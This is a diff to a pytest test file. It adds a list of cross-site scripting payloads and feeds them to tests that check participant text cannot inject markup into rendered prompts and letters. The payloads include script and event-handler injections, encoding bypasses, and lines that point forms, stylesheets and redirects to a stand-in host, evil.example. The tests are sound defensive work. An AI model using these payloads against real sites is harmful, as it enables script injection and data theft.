@@ -50,6 +50,38 @@ HOSTILE = [
     "&lt;b&gt; &amp; ]]> <!-- ",
     "\x00\x1b[31m",
 ]
+# What browsers and webmails have been made to run (PITFALLS H21).
+XSS = [
+    "<svg/onload=alert(1)>",
+    "<svg><script>alert&#40;1)</script>",
+    "<ScRiPt>alert(1)</sCrIpT>",
+    "<<script>alert(1)//<</script>",
+    "<scr\x00ipt>alert(1)</scr\x00ipt>",
+    "<img src=x:alert(1) onerror=eval(src)>",
+    '"><img src=x onerror=alert(1)>',
+    "' onmouseover='alert(1)",
+    "<a href=javascript:alert(1)>x</a>",
+    "<a href='java\nscript:alert(1)'>x</a>",
+    "<javascript:alert(1)>",
+    "<a@b.example?subject=x&body=<script>>",
+    "<data:text/html;base64,PHNjcmlwdD4=>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<body onload=alert(1)>",
+    "<style>@import'//evil.example/x.css';</style>",
+    "<p style=background:url(javascript:alert(1))>",
+    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
+    "</td></tr></table><form action=//evil.example><input name=p>",
+    "<!--><script>alert(1)</script>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
+    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
+    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    "<meta http-equiv=refresh content=0;url=//evil.example>",
+    "<base href=//evil.example/>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "{{constructor.constructor('alert(1)')()}}",
+]
 
 
 class _Tags(HTMLParser):
@@ -89,7 +121,7 @@ def update_with(words: str) -> Written:
     return letter(LetterKind.UPDATE, changes=(MOVED,), location=words, because=because)
 
 
-@pytest.mark.parametrize("words", HOSTILE)
+@pytest.mark.parametrize("words", [*HOSTILE, *XSS])
 def test_words_of_participants_add_no_markup(words: str) -> None:
     """PITFALLS 4.3: participant text is data, in every place it can stand in."""
     tags, harmless = _Tags(prompt_with(words).html), _Tags(prompt_with("words").html)
@@ -97,7 +129,7 @@ def test_words_of_participants_add_no_markup(words: str) -> None:
     assert "49" not in prompt_with(words).text.replace("2026", "")
 
 
-@pytest.mark.parametrize("words", HOSTILE)
+@pytest.mark.parametrize("words", [*HOSTILE, *XSS])
 def test_names_and_places_in_a_reason_add_no_markup(words: str) -> None:
     """PITFALLS 4.3: a break is named by the operator, a place by whoever keeps the roster."""
     tags, harmless = _Tags(update_with(words).html), _Tags(update_with("words").html)
